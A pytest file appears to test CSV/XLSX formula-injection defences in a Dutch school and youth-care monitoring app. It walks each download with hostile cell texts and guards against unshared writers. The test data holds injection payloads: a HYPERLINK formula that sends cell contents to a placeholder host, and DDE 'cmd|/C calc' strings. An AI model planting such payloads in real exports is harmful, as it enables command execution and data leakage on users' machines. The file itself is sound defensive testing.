"""No formula injection in any CSV or XLSX download (issue 11 point 5, issue 12 finding 3; OWASP "CSV Injection").

Every download goes through `rondom.exports.table_response`. These tests (1) walk every download the product
offers with the free texts of realworld file 12 in every user-typed field that reaches a cell (a provider rating's
explanation, school, provider, wijk and pilot names, pilot-budget party names) and check that each text arrives
literally and never as a formula, and (2) guard that no new CSV/XLSX writer appears outside the shared module and
that every call of the shared function is walked here."""

from __future__ import annotations

import csv
import io
import re
from collections import Counter
from dataclasses import dataclass
from datetime import date, datetime, timedelta
from decimal import Decimal
from pathlib import Path
from typing import Any
from zoneinfo import ZoneInfo

import pytest
import time_machine
from django.conf import settings
from django.test import Client
from openpyxl import load_workbook

from rondom.exports import neutralise, table_response

pytestmark = pytest.mark.django_db


@pytest.fixture(autouse=True)
def _a_fixed_school_day():  # type: ignore[no-untyped-def]
    """Nothing here depends on the wall clock: a Tuesday in school year 2025-2026, 10:00 in Amsterdam."""
    with time_machine.travel(datetime(2026, 3, 10, 10, 0, tzinfo=ZoneInfo("Europe/Amsterdam")), tick=False):
        yield


SRC = Path(__file__).resolve().parent.parent / "src" / "rondom"
REALWORLD_12 = Path(__file__).parent / "data" / "12-rating-comments-formula.txt"
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
PLAIN_NUMBER = re.compile(r"[+-]?[0-9]+(\.[0-9]+)?")


def formula_texts() -> list[str]:
    """The three explanation texts of realworld file 12 (the lines between the description and 'Right:')."""
    lines = REALWORLD_12.read_text(encoding="utf-8").splitlines()
    texts = [line for line in lines[1:] if line and not line.startswith("Right:")]
    assert texts == [
        '=HYPERLINK("https://voorbeeld.invalid/?q="&A2,"Klik voor details")',
        "-wachttijd te lang, +3 maanden",
        "@SUM(1+1)",
    ]
    return texts


HYPERLINK, WAIT, SUM = formula_texts()


def csv_cells(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.status_code
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode("utf-8-sig")), delimiter=";"))


def assert_csv_safe(response: Any, *texts: str) -> None:
    """No cell starts a formula; each text is in a cell, literally, behind the neutralising quote."""
    cells = [cell for row in csv_cells(response) for cell in row]
    live = [c for c in cells if c.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(c)]
    assert not live, live
    for text in texts:
        assert any(c.startswith("'" + text) for c in cells), (text, cells)


def assert_xlsx_safe(response: Any, *texts: str) -> None:
    """No cell is a formula (openpyxl data_type 'f'); each text is a string cell, literally as written."""
    assert response.status_code == 200, response.status_code
    assert "spreadsheetml" in response["Content-Type"]
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
    assert not [c.value for c in cells if c.data_type == "f"]
    for c in cells:
        if isinstance(c.value, str) and c.value.startswith(TRIGGERS) and not PLAIN_NUMBER.fullmatch(c.value):
            assert c.data_type == "s" and c.quotePrefix, c.value
    for text in texts:
        text = text.replace("\r", "\n")  # XML stores a carriage return as a line feed
        assert any(c.data_type == "s" and str(c.value).startswith(text) for c in cells), (
            text,
            [c.value for c in cells],
        )


def assert_safe(client: Client, url: str, *texts: str, data: dict[str, str] | None = None) -> None:
    for kind, check in (("csv", assert_csv_safe), ("xlsx", assert_xlsx_safe)):
        check(client.get(url, {**(data or {}), "format": kind}), *texts)


# --- the shared function ----------------------------------------------------------------------------------------


def test_realworld_12_texts_arrive_literally_in_csv_and_never_as_a_formula() -> None:
    response = table_response("t", ["Toelichting"], [[t] for t in (HYPERLINK, WAIT, SUM)], "csv")
    rows = csv_cells(response)
    assert [r[0] for r in rows[1:]] == ["'" + HYPERLINK, "'" + WAIT, "'" + SUM]


def test_realworld_12_texts_are_string_cells_in_xlsx_never_formulas() -> None:
    response = table_response("t", ["Toelichting"], [[t] for t in (HYPERLINK, WAIT, SUM)], "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None
    cells = [sheet.cell(row=r, column=1) for r in (2, 3, 4)]
    assert [c.value for c in cells] == [HYPERLINK, WAIT, SUM]
    assert [c.data_type for c in cells] == ["s", "s", "s"] and all(c.quotePrefix for c in cells)


@pytest.mark.parametrize(
    "text",
    ["=1+1", "+31 6 1234 5678", "-2+3+cmd|' /C calc'!A0", "@foo", "\t=1+1", "\r=1+1", '=cmd|"/C calc"!A0'],
)
def test_every_owasp_trigger_character_is_neutralised_in_csv_and_xlsx(text: str) -> None:
    assert neutralise(text) == "'" + text
    assert_csv_safe(table_response("t", ["h"], [[text]], "csv"), text)
    assert_xlsx_safe(table_response("t", ["h"], [[text]], "xlsx"), text)


def test_numbers_stay_numbers_with_a_decimal_point_negative_ones_included() -> None:
    row = [-3, Decimal("-262.00"), 2.5, "-262.00", "12.50", Decimal("1E+2"), None, "#N/A", "gewoon"]
    assert [neutralise(v) for v in row] == [-3, "-262.00", 2.5, "-262.00", "12.50", "100", "", "#N/A", "gewoon"]
    assert csv_cells(table_response("t", ["h"] * len(row), [row], "csv"))[1] == [
        "-3",
        "-262.00",
        "2.5",
        "-262.00",
        "12.50",
        "100",
        "",
        "#N/A",
        "gewoon",
    ]
    sheet = load_workbook(io.BytesIO(table_response("t", ["h"] * len(row), [row], "xlsx").content)).active
    assert sheet is not None
    cells = next(sheet.iter_rows(min_row=2))
    assert [c.value for c in cells[:4]] == [-3, -262.0, 2.5, "-262.00"]
    assert [c.data_type for c in cells[:4]] == ["n", "n", "n", "s"]
    assert (cells[7].value, cells[7].data_type) == ("#N/A", "s")  # text, not Excel's error value


def test_control_characters_that_xml_cannot_hold_do_not_break_the_xlsx() -> None:
    response = table_response("t", ["h"], [["Ja\x01nne\x0b"]], "xlsx")
    sheet = load_workbook(io.BytesIO(response.content)).active
    assert sheet is not None and sheet.cell(row=2, column=1).value == "Janne"


# --- every download of the product ------------------------------------------------------------------------------


@dataclass
class Place:
    """The world of the funding tests with the formula texts in every free-text field that reaches a download."""

    world: Any
    pilot: Any
    wijkteam_worker: Any
    ib: Any
    provider: Any


@pytest.fixture
def place() -> Place:
    from rondom.cases import services as cases
    from rondom.cases.models import HelpRequest, Signal
    from rondom.core.schoolyear import SchoolYear
    from rondom.feedback import services as feedback
    from rondom.funding.models import Pilot
    from rondom.funding.tests.test_rounds import build_world
    from rondom.registry.models import Wijk
    from rondom.thuiszitters.models import Thuiszitter
    from tests.factories import ChildFactory, MembershipFactory, OrganisationFactory

    world = build_world()
    world.a.name, world.b.name = HYPERLINK, WAIT
    world.a.save()
    world.b.save()
    wijk = Wijk.objects.create(municipality=world.zwolle, name=SUM)
    pupil = ChildFactory(school=world.a, home_municipality=world.zwolle, wijk=wijk)
    Thuiszitter.objects.create(
        child=pupil, kind="relative", reason="other", started_on=date.today() - timedelta(days=30), school=world.a
    )

    pilot = Pilot.objects.get(kind="specific_care")
    pilot.name = SUM
    pilot.schools.add(world.a, world.b)
    pilot.participants = [{"party": WAIT, "commitment": HYPERLINK}]
    pilot.baseline = {HYPERLINK: "600000", WAIT: "400000"}
    pilot.shrink_percent = Decimal(2)
    pilot.actual = {"1": "990000.00"}
    pilot.save()

    wijkteam = OrganisationFactory(kind="wijkteam", municipality=world.zwolle)
    worker = MembershipFactory(organisation=wijkteam, role="wijkteam_worker").user

    ib = MembershipFactory(organisation=world.a, role="intern_begeleider").user
    provider = OrganisationFactory(kind="provider", name=SUM)
    signal = Signal.objects.create(
        child=pupil, source="teacher", concerns=["learning"], description="x", conversation_on=date.today()
    )
    case = cases.register_case(ib, signal, question="Wat helpt?")
    HelpRequest.objects.create(case=case, kind="referral", provider=provider, question="Verwijzing")
    feedback.rate_provider(ib, world.a, provider, str(SchoolYear.current()), 2, HYPERLINK)
    return Place(world, pilot, worker, ib, provider)


@pytest.fixture
def as_user(login):  # type: ignore[no-untyped-def]
    def _as(user: Any) -> Client:
        client: Client = login(user)
        client.cookies[settings.LANGUAGE_COOKIE_NAME] = "en"
        return client

    return _as


#: Each module that calls `table_response`, with how many calls it has; every call is walked by a test below.
WALKED = {
    "feedback/views.py": 1,  # provider ratings
    "funding/pages.py": 3,  # allocation + realised, pilots register, pilot budget (baseline, trajectory, what-if)
    "funding/werkplan_views.py": 1,  # werkplan list
    "monitoring/views.py": 2,  # monitoring tables (summary, trend, breakdown), research export
    "thuiszitters/overview.py": 1,  # thuiszitter overview
}


def test_provider_ratings_download_realworld_12(place: Place, as_user) -> None:  # type: ignore[no-untyped-def]
    client = as_user(place.ib)
    assert_safe(client, "/aanbieders/beoordelen/", HYPERLINK, SUM, data={"school": str(place.world.a.pk)})


def test_allocation_and_realised_downloads(place: Place, as_user) -> None:  # type: ignore[no-untyped-def]
    from rondom.funding.tests.test_pages import RULES

    client = as_user(place.world.gemeente)
    year = str(place.world.year)
    assert client.post(f"/monitoring/verdeling/?year={year}", RULES).status_code == 302
    for table in ("allocation", "realised"):
        assert_safe(client, "/monitoring/verdeling/", HYPERLINK, WAIT, data={"year": year, "table": table})


def test_pilot_register_and_pilot_budget_party_names(place: Place, as_user) -> None:  # type: ignore[no-untyped-def]
    client = as_user(place.world.gemeente)
    assert_safe(client, "/monitoring/pilots/", SUM)
    budget = f"/monitoring/pilots/{place.pilot.pk}/budget/"
    assert_safe(client, budget, HYPERLINK, WAIT, data={"table": "baseline"})
    assert_safe(client, budget, HYPERLINK, WAIT, data={"table": "trajectory"})  # "<party> contributes" headers
    assert_safe(client, budget, data={"table": "whatif", "path_a": "5; 5; 0; 0; 0"})


def test_monitoring_tables(place: Place, as_user) -> None:  # type: ignore[no-untyped-def]
    client = as_user(place.world.gemeente)
    query = {"pilot": str(place.pilot.pk)}
    assert_safe(client, "/monitoring/", SUM, data={**query, "table": "summary"})  # the pilot's name in the header
    assert_safe(client, "/monitoring/", SUM, data={**query, "table": "trend"})
    assert_safe(client, "/monitoring/", HYPERLINK, WAIT, data={**query, "table": "breakdown", "breakdown": "school"})
    assert_safe(client, "/monitoring/", SUM, data={**query, "table": "breakdown", "breakdown": "wijk"})


def test_research_export(place: Place, as_user, settings) -> None:  # type: ignore[no-untyped-def]
    from rondom.core.schoolyear import SchoolYear

    settings.RONDOM_RESEARCH_KEY, settings.RESEARCH_MIN_CELL = "sleutel", 1
    settings.RESEARCH_LEGAL_BASES = ["Art. 24 lid 3 Jeugdwet (voorbeeld)"]
    client = as_user(place.world.gemeente)
    answer = client.post(
        "/monitoring/onderzoek/",
        {"pilot": "city", "year": str(SchoolYear.current()), "legal_basis": "Art. 24 lid 3 Jeugdwet (voorbeeld)"},
    )
    assert_csv_safe(answer, SUM)  # the wijk's name


def test_werkplan_list(place: Place, as_user) -> None:  # type: ignore[no-untyped-def]
    assert_safe(as_user(place.wijkteam_worker), "/werkplannen/", HYPERLINK, WAIT)


def test_thuiszitter_overview(place: Place, as_user) -> None:  # type: ignore[no-untyped-def]
    client = as_user(place.world.gemeente)
    assert_safe(client, "/thuiszitters/overzicht/", HYPERLINK, data={"by": "school"})
    assert_safe(client, "/thuiszitters/overzicht/", SUM, data={"by": "wijk"})


# --- guards -----------------------------------------------------------------------------------------------------


def _sources() -> list[Path]:
    return [p for p in SRC.rglob("*.py") if "tests" not in p.relative_to(SRC).parts and "migrations" not in p.parts]


def test_no_csv_or_xlsx_writer_outside_the_shared_export_module() -> None:
    """A new writer would bypass the neutraliser: every CSV/XLSX goes through rondom/exports.py."""
    writers = re.compile(
        r"csv\.(writer|DictWriter)\b|\bDictWriter\(|from csv import|\bWorkbook\(|import [^#]*\bWorkbook\b|"
        r"xlsxwriter|pyexcel|pandas|[\"']text/csv|\.writerows?\(|\.to_csv\(|\.to_excel\("
    )
    found = [
        f"{p.relative_to(SRC)}:{n}: {line.strip()}"
        for p in _sources()
        if p.relative_to(SRC).as_posix() != "exports.py"
        for n, line in enumerate(p.read_text(encoding="utf-8").splitlines(), start=1)
        if writers.search(line)
    ]
    assert not found, found


def test_every_download_of_the_product_is_walked_by_these_tests() -> None:
    """Adding a download means adding it to WALKED and walking it here with the realworld 12 texts."""
    calls: Counter[str] = Counter()
    for p in _sources():
        n = p.read_text(encoding="utf-8").count("table_response(")
        if n and p.relative_to(SRC).as_posix() != "exports.py":
            calls[p.relative_to(SRC).as_posix()] = n
    assert dict(calls) == WALKED
